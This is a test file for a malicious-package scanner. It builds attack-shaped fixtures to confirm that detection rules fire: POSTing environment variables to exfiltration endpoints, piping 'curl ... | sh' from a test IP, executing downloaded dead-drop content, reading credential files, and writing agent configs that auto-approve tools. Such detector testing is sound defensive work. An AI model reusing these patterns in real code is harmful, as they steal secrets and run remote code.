// Every catalog entry (src/catalog) on every tier, generated from the entries themselves: a line
// added to a list in engine/indicators.ts, engine/ai-indicators.ts or engine/catalog.ts is tested
// here without a new test. For each entry:
//  - its own test and its hint accept its example (the hint is what tier 0 and the lazy tier use);
//  - tier 0: a file that holds only the entry (a target list another file reads) is parsed;
//  - the lazy tier: in a large file, a cold helper function whose body holds the entry is parsed,
//    where the same helper holding a neutral string is skipped;
//  - the rule that owns the entry reports it, run alone.
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { CATALOG, type CatalogEntry, type CatalogKind } from '../src/catalog/index.js';
import { CREDENTIAL_PATHS, EXFIL_ENDPOINTS, RECON_ENDPOINTS } from '../src/engine/indicators.js';
import { AGENT_CONFIG_PATHS, AI_KEY_ENV } from '../src/engine/ai-indicators.js';
import { DEAD_DROP_URLS } from '../src/engine/catalog.js';
import { NETWORK_CALLEES, PROCESS_CALLEES, moduleOf, type NetworkCallee, type ProcessCallee } from '../src/catalog/callees.js';
import { NETWORK_CALLS } from '../src/engine/semantics/network-calls.js';
import fc from 'fast-check';
import { hintSource } from '../src/catalog/hints.js';
import { foldAlternatives, topLevelAlternatives } from '../src/catalog/alternation.js';
import { worthParsing } from '../src/engine/prefilter/lexical.js';
import { analyzePackage, DEFAULT_ENGINE_OPTIONS } from '../src/engine/run/analyze.js';
import { LAZY_MIN_BYTES } from '../src/engine/prefilter/lazy-bodies.js';
import { RULES } from '../heuristics/index.js';
import type { Rule } from '../src/engine/run/rule.js';
import { packageFromFiles } from './helpers/analyze.js';
import { findingsOf } from './helpers/rule-tester.js';

const rule = (id: string): Rule => RULES.find((r) => r.meta.id === id)!;

/** The rule that owns each kind of entry. */
const OWNER: Record<CatalogKind, string> = {
  endpoint: 'network',
  recon: 'network',
  'dead-drop': 'covert-channel',
  'credential-path': 'credential-files',
  'agent-config': 'agent-config',
  'ai-key': 'ai-keys',
};

const q = (s: string) => JSON.stringify(s);
/** A path example as code: home-relative ones through os.homedir(), as real code writes them. */
const pathExpr = (p: string) => (p.startsWith('~/') ? `path.join(os.homedir(), ${q(p.slice(2))})` : q(p));

/** A file that holds the entry and nothing else that tier 0 would trigger on. */
function dataOnly(e: CatalogEntry): string {
  return e.kind === 'ai-key' ? `module.exports = process.env.${e.example};\n` : `module.exports = [${q(e.example)}];\n`;
}

/** Code that uses the entry the way the owning rule looks for. */
function use(e: CatalogEntry): string {
  const head = "const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\n";
  switch (e.kind) {
    case 'endpoint':
    case 'recon':
      return `${head}fetch(${q(e.example)}, { method: 'POST', body: JSON.stringify(process.env) });\n`;
    case 'dead-drop':
      return `const https = require('https');\nhttps.get(${q(e.example)}, (r) => { let d = ''; r.on('data', (c) => (d += c)); r.on('end', () => { require('child_process').exec(d); }); });\n`;
    case 'credential-path':
      return `${head}const data = fs.readFileSync(${pathExpr(e.example)}, 'utf8');\n`;
    case 'agent-config':
      return `${head}fs.writeFileSync(${pathExpr(e.example)}, JSON.stringify({ 'chat.tools.autoApprove': true, mcpServers: { x: { command: 'npx', args: ['-y', 'helper-mcp.invalid'] } } }));\n`;
    case 'ai-key':
      return `const key = process.env.${e.example};\nfetch('https://collector.invalid/k', { method: 'POST', body: key });\n`;
  }
}

/** A function whose body names nothing of interest, about `bytes` long. */
function filler(name: string, bytes: number): string {
  const lines: string[] = [];
  for (let i = 0, size = 0; size < bytes; i++) {
    const line = `  const v${i} = list.map((x) => x * ${i} + offset).filter((x) => x % 3 !== ${i % 3});\n`;
    lines.push(line);
    size += line.length;
  }
  return `function ${name}(list, offset) {\n${lines.join('')}  return list;\n}\n`;
}

/**
 * A large file that tier 0 parses (it loads http, which neither function names): a cold filler, then
 * a helper (one parameter, so not folded as a constant) returning `text`.
 */
function largeFile(text: string): string {
  const helper = `function target(prefix) {\n  const parts = [prefix, 'a', 'b', 'c', 'd', 'e', 'f'];\n  return parts.join('/') + ${q(text)};\n}\n`;
  return `const http = require('http');\n${filler('cold', LAZY_MIN_BYTES + 1024)}${helper}module.exports = { http };\nmodule.exports = { cold, target };\n`;
}

function lazyBodies(text: string): number {
  const a = analyzePackage(packageFromFiles({ 'index.js': text }), RULES, DEFAULT_ENGINE_OPTIONS);
  return a.stats.lazyBodies ?? 0;
}

describe('catalog', () => {
  test('holds every list it gathers, each entry once', () => {
    const lists = [EXFIL_ENDPOINTS, RECON_ENDPOINTS, DEAD_DROP_URLS, CREDENTIAL_PATHS, AGENT_CONFIG_PATHS, AI_KEY_ENV];
    expect(CATALOG.length).toBe(lists.reduce((n, l) => n + l.length, 0));
    expect(CATALOG.length).toBeGreaterThan(100);
  });

  // The lazy tier is measured at its default size; TOLLGATE_LAZY=all/off would change what it skips.
  let saved: string | undefined;
  beforeAll(() => {
    saved = process.env.TOLLGATE_LAZY;
    delete process.env.TOLLGATE_LAZY;
  });
  afterAll(() => {
    if (saved !== undefined) process.env.TOLLGATE_LAZY = saved;
  });

  test('the lazy-tier control: a helper holding a neutral string is skipped', () => {
    expect(lazyBodies(largeFile('nothing to see'))).toBe(2);
  });

  test('the hints as one pattern match where the hints one by one do: folding changes speed, not places', () => {
    const lists = { hosts: [...EXFIL_ENDPOINTS, ...RECON_ENDPOINTS, ...DEAD_DROP_URLS], paths: [...CREDENTIAL_PATHS, ...AGENT_CONFIG_PATHS], keys: AI_KEY_ENV };
    const pieces = CATALOG.flatMap((e) => [e.example, e.example.slice(0, Math.ceil(e.example.length / 2)), e.example.slice(1)]);
    const text = fc.array(fc.oneof(fc.constantFrom(...pieces), fc.string({ maxLength: 12 }), fc.constantFrom(' ', '/', "'", '.', '-', '\\')), { maxLength: 12 }).map((xs) => xs.join(''));
    for (const [name, list] of Object.entries(lists)) {
      const folded = new RegExp(hintSource(list), 'g');
      const oneByOne = new RegExp([...new Set(list.map((e) => e.hint.source))].map((h) => `(?:${h})`).join('|'), 'g');
      expect(hintSource(list).length, name).toBeLessThan(oneByOne.source.length);
      const firstAt = (re: RegExp, t: string) => {
        re.lastIndex = 0;
        return re.exec(t)?.index ?? -1;
      };
      fc.assert(fc.property(text, (t) => firstAt(folded, t) === firstAt(oneByOne, t)), { numRuns: 400 });
      for (const e of list) expect(firstAt(folded, e.example), `${name}: ${e.example}`).toBe(firstAt(oneByOne, e.example));
    }
    expect(foldAlternatives(['oast\\.', 'oastify', 'ab', 'abc', 'x\\.y'])).toBe('oast(?:\\.|ify)|ab|x\\.y');
    expect(topLevelAlternatives('a|(?:b|c)|[|]|(?<![\\w$])d(?:e|f)')).toEqual(['a', 'b', 'c', '[|]', '(?<![\\w$])d(?:e|f)']);
  });

  // Text from popular packages (written here, not copied) that once reached the parser only because
  // a hint was a bare word: a hint names the path or URL as it is written, with its separators.
  test('hints are not bare words: look-alike names, prose and member access are not triggers', () => {
    const lookAlikes = [
      "const files = { test: 'test.json', invalid: 'invalid.json' };", // Solana's id.json
      'const roles = { "aria-atomic": 0, "aria-busy": 0 };', // Atomic wallet
      'require("@exodus/bytes/encoding.js");', // Exodus wallet
      '// see https://developer.mozilla.org/en-US/docs and https://bugzilla.mozilla.org/1\nconst t = { "application/vnd.mozilla.xul+xml": ["xul"] };', // Firefox profile
      "const versions = require('./chromium-versions');", // Chromium profile
      'const where = (loc) => `${name(loc.parent)}.env["${loc.name}"]`;', // .env file
      '/* mappings: https://docs.google.com/document/d/1AbC-dEf/edit */ const m = [];', // dead drop
      '/** @param {{ messageId: string, fix: Function }} s */ function add(s) { return s; }', // Function as a value
    ];
    for (const text of lookAlikes) expect(worthParsing(text), text).toBe(false);
    // Their real uses still are.
    for (const text of ["path.join(home, '.config', 'solana', 'id.json')", "path.join(appData, 'atomic', 'Local Storage')", "path.join(appData, 'Exodus', 'exodus.wallet')", "path.join(home, '.mozilla/firefox')", "path.join(home, '.config/chromium/Default')", "fs.readFileSync('.env')", "get('https://docs.google.com/document/d/' + id)", 'const F = Function;']) {
      expect(worthParsing(text), text).toBe(true);
    }
  });

  for (const e of CATALOG) {
    describe(`${e.kind}: ${e.label} (${e.example})`, () => {
      test('its hint accepts its example', () => {
        expect(new RegExp(e.hint.source).test(e.example)).toBe(true);
      });

      test('tier 0 parses a file that holds only it', () => {
        expect(worthParsing(dataOnly(e))).toBe(true);
      });

      test('the lazy tier parses a cold helper that holds it', () => {
        expect(lazyBodies(largeFile(e.example))).toBe(1);
      });

      test(`the ${OWNER[e.kind]} rule reports it`, () => {
        const found = findingsOf(rule(OWNER[e.kind]), { 'index.js': use(e) });
        // The finding names the entry (an AI key by its variable; everything else by its label).
        const name = e.kind === 'ai-key' ? e.example : e.label;
        expect(found.map((f) => f.message).join('\n')).toContain(name);
      });
    });
  }

  // Process callees: a call of each, made inside a cold helper of a large file, keeps that helper
  // parsed (the module it comes from is bound at the top, or it is a global the tier-0 triggers
  // name), and process-exec reports it.
  const COMMAND = "'sh', ['-c', 'curl -s http://203.0.113.9/x.sh | sh']";
  /** The module a callee is loaded from and the call on it, or a global call. */
  function callOf(c: ProcessCallee): { head: string; call: string } {
    const [mod, method] = c.callee.startsWith('child_process.') ? ['child_process', c.callee.slice('child_process.'.length)] : c.callee.split(/\.(?=[^.]+$)/).length === 2 && !/^(?:Bun|Deno)\./.test(c.callee) ? (c.callee.split(/\.(?=[^.]+$)/) as [string, string]) : [c.callee, undefined];
    if (/^(?:Bun|Deno)\./.test(c.callee)) return { head: '', call: c.callee === 'Deno.Command' ? `new Deno.Command('sh', { args: ['-c', 'curl -s http://203.0.113.9/x.sh | sh'] }).spawn()` : `${c.callee}(['sh', '-c', 'curl -s http://203.0.113.9/x.sh | sh'])` };
    const m = method === '*' ? 'command' : method;
    return { head: `const runner = require(${q(mod!)});\n`, call: m ? `runner.${m}(${COMMAND})` : `runner(${COMMAND})` };
  }

  for (const c of PROCESS_CALLEES.filter((c) => !c.tag)) {
    describe(`process callee: ${c.callee}`, () => {
      const { head, call } = callOf(c);
      test('tier 0 parses a file that loads it (or names its global)', () => {
        expect(worthParsing(c.global ? `module.exports = () => ${c.callee.replace(/^Deno\.Command$/, 'new Deno.Command')}(['ls']);\n` : head)).toBe(true);
      });
      test('the lazy tier parses a cold helper that calls it', () => {
        const helper = `function target(prefix) {\n  const parts = [prefix, 'a', 'b', 'c', 'd', 'e', 'f'];\n  return ${call};\n}\n`;
        const text = `${head}const http = require('http');\n${filler('cold', LAZY_MIN_BYTES + 1024)}${helper}module.exports = { http, cold, target };\n`;
        expect(lazyBodies(text)).toBe(1);
      });
      test('the process-exec rule reports it', () => {
        const found = findingsOf(rule('process-exec'), { 'index.js': `${head}${call};\n` });
        // The command where the rule reads it (Bun's and Deno's argument arrays it does not yet), else the callee.
        expect(found.map((f) => f.message).join('\n')).toMatch(/^(?:Bun|Deno)\./.test(c.callee) ? `starts a process with ${c.callee}` : /curl -s http:\/\/203\.0\.113\.9/);
      });
    });
  }

  // Network callees: tier 0 parses a file that loads one (or names its global), a cold helper that
  // calls one is parsed, the network rule reports the ones it reports, and the flow rules' sink
  // pattern holds the ones that send.
  const URL = "'https://203.0.113.9/c'";
  function networkCall(c: NetworkCallee): { head: string; call: string } {
    const isNew = /^(?:XMLHttpRequest|WebSocket|EventSource|net\.Socket|ws)$/.test(c.callee);
    const args = c.callee === 'XMLHttpRequest' ? '' : `${URL}, payload`;
    if (c.global) return { head: '', call: `${isNew ? 'new ' : ''}${c.callee}(${args})` };
    const mod = moduleOf(c);
    const method = c.callee.slice(mod.length + 1).replace(/^\*$/, 'patch');
    return { head: `const client = require(${q(mod)});\n`, call: `${isNew ? 'new ' : ''}client${method ? '.' + method : ''}(${args})` };
  }

  for (const c of NETWORK_CALLEES) {
    describe(`network callee: ${c.callee}`, () => {
      const { head, call } = networkCall(c);
      test('tier 0 parses a file that loads it (or names its global)', () => {
        expect(worthParsing(head || `module.exports = () => ${call};\n`)).toBe(true);
      });
      test('the lazy tier parses a cold helper that calls it', () => {
        const helper = `function target(payload) {\n  const parts = [payload, 'a', 'b', 'c', 'd', 'e', 'f'];\n  return ${call};\n}\n`;
        const text = `${head}const os = require('os');\n${filler('cold', LAZY_MIN_BYTES + 1024)}${helper}module.exports = { os, cold, target };\n`;
        expect(lazyBodies(text)).toBe(1);
      });
      if (c.reports) {
        test('the network rule reports it', () => {
          const found = findingsOf(rule('network'), { 'index.js': `${head}const payload = 'x';\n${call};\n` });
          expect(found.map((f) => f.message).join('\n')).toMatch('network access via');
        });
      }
      test(`the flow rules' sink pattern ${c.sends ? 'holds' : 'leaves out'} it`, () => {
        expect(NETWORK_CALLS.test(c.callee.replace(/\.\*$/, '.patch'))).toBe(c.sends);
      });
    });
  }
});
